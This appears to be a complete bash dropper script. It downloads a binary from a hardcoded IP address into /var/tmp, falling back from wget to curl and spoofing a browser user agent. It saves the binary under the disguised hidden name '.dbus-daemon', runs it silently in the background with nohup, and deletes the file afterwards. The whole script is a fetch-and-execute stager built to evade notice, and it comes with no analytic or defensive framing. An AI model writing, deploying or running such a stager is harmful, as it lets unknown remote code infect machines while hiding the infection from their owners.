#!/bin/bash
H=203.0.113.80
D=/var/tmp
N=.dbus-daemon
cd "$D" 2>/dev/null || exit 0
if command -v wget >/dev/null 2>&1; then
  wget -q --user-agent="Mozilla/5.0" \
    "http://$H/dl/x64" \
    -O "$N"
else
  curl -fsSL -A "Mozilla/5.0" "http://$H/dl/x64" > "$N"
fi
chmod 700 "$N"
nohup "./$N" >/dev/null 2>&1 &
rm -f "$N"
